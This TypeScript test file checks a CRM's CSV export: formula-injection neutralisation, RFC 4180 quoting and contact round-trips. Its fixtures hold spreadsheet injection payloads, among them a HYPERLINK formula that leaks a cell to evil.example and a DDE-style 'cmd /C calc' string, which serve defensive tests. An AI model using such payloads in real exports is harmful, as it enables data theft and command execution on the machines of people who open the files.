import { describe, expect, it } from 'vitest';
import { fixtureText } from '../../tests/kit/io-fixtures';
import type { Contact, Deal, Interaction } from '../schema/records';
import { contactFromImport } from './contact-import';
import { contactsToCsv, dealsToCsv, interactionsToCsv, neutraliseFormula, toCsv } from './csv-export';
import { parseCsv } from './csv-parse';
import { detectFormat, mapRows } from './mapping';

const NOW = Date.UTC(2026, 10, 23);

function contact(id: string, overrides: Partial<Contact>): Contact {
  return {
    ...contactFromImport({ line: 1, name: id, emails: [], phones: [], tags: [], source: 'manual' }, id, NOW),
    ...overrides,
  };
}

describe('formula-injection neutralisation', () => {
  it.each(['=1+1', '+1 555 0100', '-2+3', '@SUM(A1)', '\t=cmd', '\r=cmd'])(
    'prefixes %j with an apostrophe',
    (value) => {
      expect(neutraliseFormula(value)).toBe(`'${value}`);
    },
  );

  it.each(['Ann', "O'Brien", ' =not first', '1+1', ''])('leaves %j alone', (value) => {
    expect(neutraliseFormula(value)).toBe(value);
  });

  it('neutralises every dangerous cell of the formula fixture on export, but not computed numbers', () => {
    const { rows, headers } = parseCsv(fixtureText('formula.csv'));
    const { drafts } = mapRows(rows, detectFormat(headers).mapping);
    const contacts = drafts.map((d, i) => contactFromImport(d, `c${i}`, NOW));
    const csv = contactsToCsv(contacts, { bom: false });
    const exported = parseCsv(csv).rows.map((r) => r.cells);
    expect(exported[0]?.slice(0, 4)).toEqual([
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
      'mallory@evil.example',
      '',
      "'+1 555 0100",
    ]);
    expect(exported[0]?.[6]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(exported[0]?.[9]).toBe("'-2+3");
    expect(exported[1]?.[9]).toBe('Tabbed note'); // trimmed on import
    const sneaky = contact('c9', { name: '\r=cmd', ownerNotes: '\t=1+1', tags: ['@home'] });
    expect(parseCsv(contactsToCsv([sneaky])).rows[0]?.cells.slice(0, 10)).toEqual([
      "'\r=cmd",
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      "'@home",
      "'\t=1+1",
    ]);
    for (const cells of exported) {
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const deal: Deal = {
      id: 'd1',
      amount: -50,
      currency: 'EUR',
      date: NOW,
      status: 'lost',
      createdAt: NOW,
      title: '=2*3',
    };
    expect(dealsToCsv([deal], { bom: false }).split('\r\n')[1]).toBe(
      `2026-11-23T00:00:00.000Z,'=2*3,lost,-50,EUR,,,,d1`,
    );
  });
});

describe('CSV export', () => {
  it('quotes per RFC 4180, ends records with CRLF and starts with a BOM unless asked not to', () => {
    const csv = toCsv(
      ['a', 'b'],
      [
        ['x,y', 'say "hi"'],
        ['line\nbreak', 3],
      ],
    );
    expect(csv).toBe('\uFEFFa,b\r\n"x,y","say ""hi"""\r\n"line\nbreak",3\r\n');
    expect(toCsv(['a'], [], { bom: false })).toBe('a\r\n');
  });

  it('round-trips contacts -> CSV -> parse -> mapping', () => {
    const ann = contact('c1', {
      name: 'Ann "The Closer" Lee',
      emails: ['ann@acme.example', 'ann.lee@gmail.com'],
      phones: ['+1 415 555 0101', '020 7946 0000'],
      title: 'VP, Sales',
      orgName: 'Acme; Corp',
      linkedin: 'ann-lee',
      tags: ['VIP', 'Customers'],
      ownerNotes: 'Line one\nLine two, with comma',
    });
    const bob = contact('c2', { name: 'Bob', emails: ['bob@x.example'] });
    const csv = contactsToCsv([ann, bob]);
    const parsed = parseCsv(csv);
    const detected = detectFormat(parsed.headers);
    expect(detected.format).toBe('rapport');
    const { drafts, problems } = mapRows(parsed.rows, detected.mapping, 'import:rapport');
    expect(problems).toEqual([]);
    expect(drafts).toEqual([
      {
        line: 2,
        name: ann.name,
        emails: ann.emails,
        phones: ann.phones,
        title: ann.title,
        orgName: ann.orgName,
        linkedin: ann.linkedin,
        tags: ann.tags,
        notes: ann.ownerNotes,
        source: 'import:rapport',
      },
      { line: 4, name: 'Bob', emails: ['bob@x.example'], phones: [], tags: [], source: 'import:rapport' },
    ]);
  });

  it('exports interactions with contact names when given', () => {
    const interaction: Interaction = {
      id: 'i1',
      contactIds: ['c1', 'c2'],
      timeline: [
        ['c1', NOW],
        ['c2', NOW],
      ],
      channel: 'email',
      direction: 'outbound',
      at: NOW,
      subject: '=Re: pricing',
      createdAt: NOW,
    };
    const csv = interactionsToCsv([interaction], { bom: false, contactNames: new Map([['c1', 'Ann Lee']]) });
    expect(csv).toBe(
      "Date,Channel,Direction,Contacts,Subject,Summary,URL,ID\r\n2026-11-23T00:00:00.000Z,email,outbound,Ann Lee; c2,'=Re: pricing,,,i1\r\n",
    );
  });
});
